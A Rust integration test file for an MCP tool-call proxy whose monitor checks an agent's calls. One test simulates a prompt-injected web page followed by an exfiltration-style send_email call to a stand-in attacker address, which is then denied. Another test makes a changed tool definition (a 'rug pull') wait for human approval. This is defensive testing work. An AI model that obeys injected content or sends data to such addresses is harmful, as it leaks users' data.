//! The proxy with a real monitor: decisions, results and vetting in the audit trail, session
//! provenance kept by the monitor, and a rug pull approved by a human through the monitor.

use std::time::{Duration, Instant};

use pretty_assertions::assert_eq;
use serde_json::{json, Value};
use warden_daemon::proto::{Request, Scope};

use super::{call, client, is_error, proxied, server, text, Monitor};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn calls_results_and_vetting_go_through_the_monitor() {
    let m = Monitor::start();
    let opts = [
        "--socket",
        m.socket(),
        "--session",
        "s-mon",
        "--name",
        "web",
    ];
    let c = client(&proxied(&opts, &server("inject"))).await;
    c.list_all_tools().await.unwrap();
    let r = call(&c, "fetch_page", json!({"url": "https://news.example"})).await;
    assert!(!is_error(&r));
    // The monitor read the injected page into the session: the call it asks for is refused.
    let r = call(
        &c,
        "send_email",
        json!({"to": "attacker@evil-mail.example", "body": "k"}),
    )
    .await;
    assert!(
        text(&r).contains("session.args-from-injected-content"),
        "{}",
        text(&r)
    );
    c.cancel().await.unwrap();

    let recs = m.records();
    let decisions: Vec<(String, String)> = recs
        .iter()
        .filter(|r| r["_kind"] == "decision" && r["event"] == "McpCall")
        .map(|r| {
            (
                r["tool"].as_str().unwrap().to_string(),
                r["decision"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        decisions,
        vec![
            ("mcp__web__fetch_page".to_string(), "allow".to_string()),
            ("mcp__web__send_email".to_string(), "deny".to_string())
        ]
    );
    let result = recs.iter().find(|r| r["event"] == "McpResult").unwrap();
    assert_eq!(result["_session"], json!("s-mon"));
    assert!(result["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["kind"] == "injection"));
    assert!(recs.iter().any(|r| r["event"] == "McpVetted"), "{recs:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rug_pull_waits_for_a_human_and_the_approval_pins_it() {
    let m = Monitor::start();
    let pins = tempfile::tempdir().unwrap();
    let opts = [
        "--socket",
        m.socket(),
        "--pins",
        pins.path().to_str().unwrap(),
        "--session",
        "s-rug",
        "--name",
        "weather",
    ];
    let c = client(&proxied(&opts, &server("rugpull"))).await;
    c.list_all_tools().await.unwrap();
    assert_eq!(
        text(&call(&c, "get_weather", json!({"city": "Oslo"})).await),
        "Oslo: sunny, 21 C"
    );

    // The definition changed: the next call waits for a human, who approves it.
    let socket = m.socket.clone();
    let approver = std::thread::spawn(move || {
        let t = Instant::now();
        loop {
            let r = warden_daemon::client::call(
                &socket,
                &Request::Approvals { all: false },
                Duration::from_secs(5),
                |_, _| {},
            )
            .unwrap();
            if let warden_daemon::proto::Response::Ok {
                value: Value::Array(a),
            } = r
            {
                if let Some(p) = a.first() {
                    let id = p["id"].as_str().unwrap().to_string();
                    let rules: Vec<String> = p["request"]["rules"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|r| r["rule"].as_str().unwrap().to_string())
                        .collect();
                    warden_daemon::client::call(
                        &socket,
                        &Request::Answer {
                            id,
                            approve: true,
                            scope: Scope::Once,
                            expires_secs: None,
                        },
                        Duration::from_secs(5),
                        |_, _| {},
                    )
                    .unwrap();
                    return rules;
                }
            }
            assert!(
                t.elapsed() < Duration::from_secs(20),
                "no approval was asked"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    });
    let r = call(&c, "get_weather", json!({"city": "Oslo"})).await;
    assert_eq!(
        approver.join().unwrap(),
        vec!["mcp.definition-changed".to_string()]
    );
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(text(&r), "Oslo: sunny, 21 C");
    // Approved by a human: the new definition is pinned, and the next call needs nobody.
    let r = call(&c, "get_weather", json!({"city": "Bergen"})).await;
    assert_eq!(text(&r), "Bergen: sunny, 21 C");
    c.cancel().await.unwrap();
    let views = warden_mcp::pins::list(pins.path()).unwrap();
    assert!(views[0].held.is_empty(), "{views:?}");
    let recs = m.records();
    assert!(recs.iter().any(|r| r["event"] == "McpPinned"), "{recs:#?}");
}
